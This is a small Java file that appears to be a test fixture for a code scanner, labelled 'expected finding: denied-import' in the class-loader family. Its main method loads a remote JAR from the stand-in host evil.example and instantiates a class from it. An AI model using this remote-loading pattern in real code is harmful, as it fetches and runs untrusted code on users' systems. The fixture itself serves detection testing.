// family: class loaders
// expected finding: denied-import
import java.net.URL;
import java.net.URLClassLoader;

public class UrlClassLoaderRemote {
    public static void main(String[] args) throws Exception {
        try (URLClassLoader l = new URLClassLoader(new URL[] {new URL("https://evil.example/x.jar")})) {
            l.loadClass("X").getDeclaredConstructor().newInstance();
        }
    }
}
